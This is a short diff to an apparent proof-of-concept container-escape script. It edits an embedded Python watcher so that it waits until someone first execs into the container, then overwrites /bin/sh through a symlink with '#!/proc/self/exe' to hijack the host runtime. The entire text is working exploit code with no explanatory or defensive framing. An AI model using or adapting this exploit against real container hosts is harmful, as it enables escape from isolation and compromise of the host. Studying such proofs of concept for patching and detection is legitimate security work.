@@ -15,7 +15,9 @@ sleep 1
 cat /tmp/poc.log
 # The watcher (written to watch.py by the layer: the lines below without "#| ")
 #| import os, time
-#| time.sleep(2)  # the container is up and being watched: now arm the trap
+#| # arm the trap when someone first execs into the container (the first probe)
+#| while not [p for p in os.listdir("/proc") if p.isdigit() and int(p) not in (1, os.getpid())]:
+#|     time.sleep(0.01)
 #| log = open("/tmp/poc.log", "w", buffering=1)
 #| with open("/bin/sh", "wb") as f:  # through the symlink, as the PoC's os.Create
 #|     f.write(b"#!/proc/self/exe\n")
